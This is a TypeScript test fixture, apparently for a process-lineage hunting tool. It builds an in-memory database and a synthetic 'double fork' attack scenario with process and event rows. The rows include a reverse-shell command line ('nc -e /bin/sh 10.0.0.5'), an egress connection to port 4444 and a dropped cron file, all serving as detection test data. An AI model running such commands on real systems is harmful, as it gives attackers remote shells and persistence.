import type { Database } from 'sql.js';
import type { SqlPort } from '../../../src/hunt/index.js';
import { INDICES, SCHEMA } from '../../../src/store/schema.js';
import { sqlDatabase } from './sqlDatabase.js';

type Value = string | number | boolean | null | readonly string[];
export type Row = Readonly<Record<string, Value>>;

/** A small database by hand. Columns ending in `_s` are given as text; `args_s` as a list. */
export interface HandMade {
  readonly port: SqlPort;
  readonly database: Database;
  statements: string[];
}

export function handMade(tables: { process?: readonly Row[]; event?: readonly Row[]; parentage?: readonly Row[] }): HandMade {
  const { database, port } = sqlDatabase();
  database.run(SCHEMA);
  const ids = new Map<string, number>();
  const intern = (text: string): number => {
    let id = ids.get(text);
    if (id === undefined) {
      id = ids.size + 1;
      ids.set(text, id);
      database.run('INSERT INTO string VALUES (?, ?, ?)', [id, text, text.length]);
    }
    return id;
  };
  const list = (items: readonly string[]): number => {
    const known = ids.has(items.join('\0'));
    const id = intern(items.join('\0'));
    if (!known) items.forEach((item, at) => database.run('INSERT INTO arg VALUES (?, ?, ?)', [id, at, intern(item)]));
    return id;
  };
  for (const [table, rows] of Object.entries(tables)) {
    for (const row of rows ?? []) {
      const names = Object.keys(row);
      const values = names.map((name) => {
        const value = row[name]!;
        if (typeof value === 'boolean') return Number(value);
        if (Array.isArray(value)) return list(value as readonly string[]);
        return name.endsWith('_s') && typeof value === 'string' ? intern(value) : (value as string | number | null);
      });
      database.run(`INSERT INTO ${table} (${names.map((name) => `"${name}"`).join(', ')}) VALUES (${names.map(() => '?').join(', ')})`, values);
    }
  }
  // What a parent or creator ran when it mattered is what it ran last, unless a row says otherwise.
  for (const column of ['name_s', 'executable_s', 'args_s', 'command_line_s']) {
    database.run(`UPDATE event SET parent_${column} = coalesce(parent_${column}, (SELECT p.${column} FROM process p WHERE p.id = event.parent))`);
    database.run(`UPDATE process SET creator_${column} = coalesce(creator_${column}, (SELECT p.${column} FROM process p WHERE p.id = process.creator))`);
  }
  database.run(INDICES);
  const made: HandMade = { database, statements: [], port: { all: (text, params) => {
    made.statements.push(text);
    return port.all(text, params);
  } } };
  return made;
}

const second = 1_000_000;

/** sshd 100 made bash 200, which forked 300 (ended), which forked the orphan 400 (nc), adopted by init. Exec-only process 500 has no known creator. */
export function doubleFork(): HandMade {
  const base = { host_s: 'web', boot: 0, orphan: 0, intermediate: 0, unrecorded: 0, kernel_thread: 0, exe_deleted: 0, memfd: 0, writable_dir: 0, interactive: 0, reparented: 0, execs: 1, children: 0, descendants: 0 };
  return handMade({
    process: [
      { ...base, id: 0, entity_id: 'E0', pid: 1, start: 1 * second, start_basis: 0, name_s: 'systemd', executable_s: '/usr/lib/systemd/systemd', uid: 0, pre: 0, post: 4, depth: 0, children: 1 },
      { ...base, id: 1, entity_id: 'E1', pid: 100, start: 10 * second, start_basis: 0, name_s: 'sshd', executable_s: '/usr/sbin/sshd', args_s: ['sshd', '-D'], command_line_s: 'sshd -D', args_count: 2, uid: 0, parent: 0, creator: 0, creator_basis: 0, creator_confidence: 1, pre: 1, post: 4, depth: 1, children: 1 },
      { ...base, id: 2, entity_id: 'E2', pid: 200, start: 20 * second, start_basis: 0, end: 90 * second, end_basis: 0, exit_code: 0, name_s: 'bash', executable_s: '/bin/bash', args_s: ['-bash'], command_line_s: '-bash', args_count: 1, uid: 1000, user_s: 'eve', interactive: 1, parent: 1, creator: 1, creator_basis: 0, creator_confidence: 1, entry: 1, entry_kind: 'login', entry_basis: 1, pre: 2, post: 4, depth: 2, children: 1 },
      { ...base, id: 3, entity_id: 'E3', pid: 300, start: 30 * second, start_basis: 0, end: 31 * second, end_basis: 1, exit_code: 0, name_s: 'bash', executable_s: '/bin/bash', uid: 1000, user_s: 'eve', intermediate: 1, parent: 2, creator: 2, creator_basis: 0, creator_confidence: 1, pre: 3, post: 4, depth: 3, execs: 0, children: 1 },
      { ...base, id: 4, entity_id: 'E4', pid: 400, start: 30.5 * second, start_basis: 0, name_s: 'nc', executable_s: '/tmp/nc', args_s: ['nc', '-e', '/bin/sh', '10.0.0.5'], command_line_s: 'nc -e /bin/sh 10.0.0.5', args_count: 4, uid: 1000, user_s: 'eve', writable_dir: 1, parent: 0, creator: 3, creator_basis: 1, creator_confidence: 0.9, adopter: 0, adopter_kind: 'init', adopter_basis: 1, orphan: 1, orphan_basis: 1, orphan_confidence: 0.9, orphaned_after_min: 500_000, orphaned_after_max: 500_000, launcher: 2, launcher_basis: 0, launcher_distance: 2, entry: 1, entry_kind: 'login', entry_basis: 1, reparented: 1, pre: 4, post: 4, depth: 4 },
      { ...base, id: 5, entity_id: 'E5', pid: 500, start: 40 * second, start_basis: 1, name_s: 'python3', executable_s: '/usr/bin/python3', args_s: ['python3', 'x.py'], command_line_s: 'python3 x.py', args_count: 2, uid: 33, orphan: null, pre: 5, post: 5, depth: 0 },
    ],
    event: [
      { id: 0, time: 10 * second, category: 'process', type: 'start', action: 'exec', basis: 0, host_s: 'web', process: 1, parent: 0, name_s: 'sshd', executable_s: '/usr/sbin/sshd', args_s: ['sshd', '-D'], command_line_s: 'sshd -D', args_count: 2, uid: 0 },
      { id: 1, time: 20 * second, category: 'process', type: 'start', action: 'exec', basis: 0, host_s: 'web', process: 2, parent: 1, name_s: 'bash', executable_s: '/bin/bash', args_s: ['-bash'], command_line_s: '-bash', args_count: 1, uid: 1000, user_s: 'eve' },
      { id: 2, time: 30 * second, category: 'process', type: 'start', action: 'fork', basis: 0, host_s: 'web', process: 2, parent: 1, other: 3, name_s: 'bash', executable_s: '/bin/bash', uid: 1000, user_s: 'eve' },
      { id: 3, time: 30.6 * second, category: 'process', type: 'start', action: 'exec', basis: 0, host_s: 'web', process: 4, parent: 3, name_s: 'nc', executable_s: '/tmp/nc', args_s: ['nc', '-e', '/bin/sh', '10.0.0.5'], command_line_s: 'nc -e /bin/sh 10.0.0.5', args_count: 4, uid: 1000, user_s: 'eve', previous_name_s: 'bash' },
      { id: 4, time: 31 * second, category: 'process', type: 'end', action: 'exit', basis: 0, host_s: 'web', process: 3, parent: 2, name_s: 'bash', executable_s: '/bin/bash', exit_code: 0, uid: 1000, user_s: 'eve' },
      { id: 5, time: 31 * second, category: 'lineage', type: 'change', action: 'reparent', basis: 1, host_s: 'web', process: 4, parent: 0, name_s: 'nc', executable_s: '/tmp/nc' },
      { id: 6, time: 32 * second, category: 'network', type: 'start', action: 'connection_attempted', basis: 0, host_s: 'web', process: 4, parent: 0, name_s: 'nc', executable_s: '/tmp/nc', path_s: '/run/x.sock', address_s: '10.0.0.5', port: 4444, direction: 'egress', outcome: 'success' },
      { id: 7, time: 33 * second, category: 'file', type: 'creation', action: 'creation', basis: 0, host_s: 'web', process: 4, parent: 0, name_s: 'nc', executable_s: '/tmp/nc', path_s: '/etc/cron.d/job.sh', outcome: 'success' },
      { id: 8, time: 34 * second, category: 'file', type: 'change', action: 'rename', basis: 0, host_s: 'web', process: 5, name_s: 'python3', path_s: '/tmp/a.txt', path2_s: '/tmp/b', outcome: 'success' },
      { id: 9, time: 40 * second, category: 'process', type: 'start', action: 'already_running', basis: 1, host_s: 'web', process: 5, name_s: 'python3', executable_s: '/usr/bin/python3', args_s: ['python3', 'x.py'], command_line_s: 'python3 x.py', args_count: 2, uid: 33 },
    ],
  });
}
